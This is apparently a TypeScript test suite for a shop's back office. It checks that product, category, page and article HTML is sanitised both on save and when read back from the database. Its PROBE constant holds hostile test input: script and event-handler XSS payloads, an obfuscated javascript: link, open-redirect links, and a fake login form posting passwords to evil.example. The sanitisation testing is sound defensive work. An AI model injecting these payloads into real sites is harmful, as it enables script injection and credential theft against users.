/**
 * Editor html on PGlite (and PostgreSQL with DATABASE_URL), ADR 0041: every back-office save of
 * a rich-text field (product descriptions in each language, category, brand and collection
 * descriptions, static pages, article blocks) stores only the shop's formatting, and a row
 * written straight into the database is answered cleaned by the calls that feed the pages
 * (product detail with its specification and size table, routes/current, the category tree and
 * the brand and collection lists, pages/info, articles/info).
 */
import { sql } from "drizzle-orm";
import { beforeAll, describe, expect, it, vi } from "vitest";
import type { CategoryNode, ProductDetail, RouteRecord } from "../catalog/contract.ts";
import { insertFixtures, type Fixtures } from "../catalog/test-fixtures.ts";
import type { Article, Page } from "../content/contract.ts";
import { testApi } from "../test/db.ts";
import { staffTokens } from "../test/staff.ts";
import type { ArticleFormInput } from "./blog-contract.ts";
import type { ProductFormInput } from "./catalogue-contract.ts";
import type { PageFormPayload } from "./pages-contract.ts";
import type { TaxonFormPayload } from "./taxonomy-contract.ts";

vi.setConfig({ testTimeout: 120_000 });

type Api = Awaited<ReturnType<typeof testApi>>;
let api: Api;
let fx: Fixtures;
const tokens: Record<string, string> = {};

beforeAll(async () => {
  api = await testApi();
  fx = await insertFixtures(api.database);
  Object.assign(tokens, await staffTokens(api, "99455460000"));
}, 240_000);

/** The outside probe's payload, with the formatting an editor really writes around it. */
const PROBE =
  '<meta http-equiv="refresh" content="0;url=http://evil.example/">' +
  '<form action="https://evil.example/steal" method="post"><input type="password" name="password"><button>Log in</button></form>' +
  "<script>alert(1)</script><img src=\"x\"/onerror=alert(1)><svg onload=\"alert(1)\"></svg>" +
  '<h2>Linen</h2><p style="color:red" onclick="alert(1)">Soft <strong>linen</strong>, <a href="java&#x73;cript:alert(1)">care</a>, ' +
  '<a href="//evil.example/">elsewhere</a>, <a href="/\\evil.example/">there</a>, <a href="/sale">sale</a>, <a href="https://wa.me/994505551000">WhatsApp</a>.</p>';
/** What the shop keeps of it. */
const CLEAN =
  "Log in<h2>Linen</h2><p>Soft <strong>linen</strong>, <a>care</a>, <a>elsewhere</a>, <a>there</a>, " +
  '<a href="/sale">sale</a>, <a href="https://wa.me/994505551000" rel="noopener noreferrer">WhatsApp</a>.</p>';

const stamp = () => Math.random().toString(36).slice(2, 8);
const post = <T = unknown>(path: string, body: unknown, token = tokens.content) => api.call<T>(path, { lang: "en", ...(body as Record<string, unknown>) }, { token });
const perLang = <T>(fn: (l: "az" | "en" | "ru") => T) => ({ az: fn("az"), en: fn("en"), ru: fn("ru") });
const everyLang = { az: CLEAN, en: CLEAN, ru: CLEAN };

describe("saving editor html keeps only the shop's formatting", () => {
  it("a product's description in every language (the content editor saves it)", async () => {
    const s = stamp();
    const form: ProductFormInput = {
      ...perLang((l) => ({ title: `Shirt ${l} ${s}`, slug: `shirt-${l}-${s}`, desc: PROBE })),
      brandId: fx.brands.nord,
      categoryIds: [fx.categories.linen],
      price: "59.90",
      status: "active",
      variants: [{ size: "M", stock: 3, price: "" }],
    };
    const made = await post<{ id: number }>("admin/products/create", form);
    expect(made.status, JSON.stringify(made)).toBe(200);
    const id = made.data!.id;
    const rows = await api.database.query<{ lang: string; desc: string }>(sql`select lang, "desc" from product_translations where product_id = ${id} order by lang`);
    expect(rows).toEqual([
      { lang: "az", desc: CLEAN },
      { lang: "en", desc: CLEAN },
      { lang: "ru", desc: CLEAN },
    ]);
    expect((await api.call<ProductDetail>(`products/info/${id}`, { lang: "ru" })).data!.desc).toBe(CLEAN);
  });

  it("category, brand and collection descriptions", async () => {
    const s = stamp();
    const category: TaxonFormPayload = { parentId: null, sort: "1", ...perLang((l) => ({ title: `Cat ${l} ${s}`, slug: `cat-${l}-${s}`, desc: PROBE })) };
    const brand: TaxonFormPayload = { title: `Brand ${s}`, slug: `brand-${s}`, sort: "1", image: "", ...perLang(() => ({ desc: PROBE })) };
    const collection: TaxonFormPayload = { sort: "1", image: "", ...perLang((l) => ({ title: `Col ${l} ${s}`, slug: `col-${l}-${s}`, headline: "", desc: PROBE })) };
    for (const [kind, table, body] of [
      ["categories", "categories", category],
      ["brands", "brands", brand],
      ["collections", "collections", collection],
    ] as const) {
      const made = await post<{ id: number }>(`admin/${kind}/create`, body);
      expect(made.status, `${kind}: ${JSON.stringify(made)}`).toBe(200);
      const [row] = await api.database.query<{ desc: unknown }>(sql`select "desc" from ${sql.identifier(table)} where id = ${made.data!.id}`);
      expect(row!.desc, kind).toEqual(everyLang);
    }
  });

  it("a static page's text in every language", async () => {
    const s = stamp();
    const form: PageFormPayload = perLang((l) => ({ title: `Page ${l} ${s}`, path: `/page-${l}-${s}`, content: PROBE }));
    const made = await post<{ id: number }>("admin/pages/create", form);
    expect(made.status, JSON.stringify(made)).toBe(200);
    const [row] = await api.database.query<{ content: unknown }>(sql`select content from pages where id = ${made.data!.id}`);
    expect(row!.content).toEqual(everyLang);
    expect((await api.call<Page>(`pages/info/${made.data!.id}`, { lang: "az" })).data!.content).toBe(CLEAN);
  });

  it("an article block's text; a required text that held only dropped markup is refused as missing", async () => {
    const article = (blocks: ArticleFormInput["blocks"], s = stamp()): ArticleFormInput => ({
      ...perLang((l) => ({ title: `Article ${l} ${s}`, slug: `article-${l}-${s}`, desc: "Short" })),
      status: "on",
      publishedAt: "2026-01-15T10:00",
      blocks,
    });
    const made = await post<{ id: number }>("admin/articles/create", article([{ kind: "text_banner", ...perLang(() => ({ headline: "Care", desc: PROBE })) }]));
    expect(made.status, JSON.stringify(made)).toBe(200);
    const [row] = await api.database.query<{ data: { desc: unknown } }>(sql`select data from article_blocks where article_id = ${made.data!.id}`);
    expect(row!.data.desc).toEqual(everyLang);
    const empty = await post("admin/articles/create", article([{ kind: "text_banner", ...perLang((l) => ({ headline: "x", desc: l === "ru" ? "<p>Текст</p>" : "<script>alert(1)</script>" })) }]));
    expect(empty.status).toBe(422);
    expect(Object.keys(empty.errors!).sort()).toEqual(["blocks.0.az.desc", "blocks.0.en.desc"]);
  });
});

describe("rows written straight into the database are answered cleaned", () => {
  it("a product's description, specification and size table (products/info)", async () => {
    const id = fx.products.whiteShirt;
    await api.database.query(sql`update product_translations set "desc" = ${PROBE}, spec = ${PROBE} where product_id = ${id}`);
    const [table] = await api.database.query<{ id: number }>(sql`select size_table_id as id from products where id = ${id}`);
    expect(table!.id).toBeTruthy();
    await api.database.query(sql`update size_tables set content = ${JSON.stringify(everyLangRaw())}::jsonb where id = ${table!.id}`);
    for (const lang of ["az", "en", "ru"]) {
      const detail = (await api.call<ProductDetail>(`products/info/${id}`, { lang })).data!;
      expect({ desc: detail.desc, spec: detail.spec, table: detail.sizeTable?.content }, lang).toEqual({ desc: CLEAN, spec: CLEAN, table: CLEAN });
    }
  });

  it("category, brand and collection descriptions (routes/current, the category tree, the brand and collection lists)", async () => {
    const raw = JSON.stringify(everyLangRaw());
    await api.database.query(sql`update categories set "desc" = ${raw}::jsonb where id = ${fx.categories.men}`);
    await api.database.query(sql`update brands set "desc" = ${raw}::jsonb where id = ${fx.brands.lale}`);
    await api.database.query(sql`update collections set "desc" = ${raw}::jsonb where id = ${fx.collections.office}`);
    for (const [type, id] of [
      ["category", fx.categories.men],
      ["brand", fx.brands.lale],
      ["collection", fx.collections.office],
    ] as const) {
      const [route] = await api.database.query<{ path: string }>(sql`select path from routes where entity_type = ${type} and entity_id = ${id} and lang = 'en' and not is_redirect`);
      const record = await api.call<RouteRecord>("routes/current", { route: route!.path, lang: "en" });
      expect(record.data, type).toMatchObject({ type, id, desc: CLEAN });
    }
    const tree = (await api.call<CategoryNode[]>("categories", { lang: "en" }, { method: "GET" })).data!;
    expect(tree.find((c) => c.id === fx.categories.men)?.desc).toBe(CLEAN);
    const brands = (await api.call<{ id: number; desc: string | null }[]>("brands", { lang: "en" }, { method: "GET" })).data!;
    expect(brands.find((b) => b.id === fx.brands.lale)?.desc).toBe(CLEAN);
    const collections = (await api.call<{ items: { id: number; desc: string | null }[] }>("collections", { lang: "en" }, { method: "GET" })).data!;
    expect(collections.items.find((c) => c.id === fx.collections.office)?.desc).toBe(CLEAN);
  });

  it("a static page (pages/info) and an article's blocks (articles/info)", async () => {
    const s = stamp();
    const raw = JSON.stringify(everyLangRaw());
    const [page] = await api.database.query<{ id: number }>(
      sql`insert into pages (key, title, content) values (${`planted-${s}`}, '{"en":"Planted"}'::jsonb, ${raw}::jsonb) returning id`,
    );
    expect((await api.call<Page>(`pages/info/${page!.id}`, { lang: "en" })).data!.content).toBe(CLEAN);
    const [article] = await api.database.query<{ id: number }>(
      sql`insert into articles (slug, title, "desc", status, published_at) values (${`planted-${s}`}, '{"en":"Planted"}'::jsonb, '{"en":""}'::jsonb, 'on', now() - interval '1 day') returning id`,
    );
    await api.database.query(
      sql`insert into article_blocks (article_id, sort, name, data) values (${article!.id}, 0, 'text_banner', ${JSON.stringify({ headline: { en: "Planted" }, desc: everyLangRaw() })}::jsonb)`,
    );
    const answer = (await api.call<Article>(`articles/info/${article!.id}`, { lang: "ru" })).data!;
    expect(answer.blocks[0]!.data.desc).toBe(CLEAN);
  });
});

function everyLangRaw() {
  return { az: PROBE, en: PROBE, ru: PROBE };
}
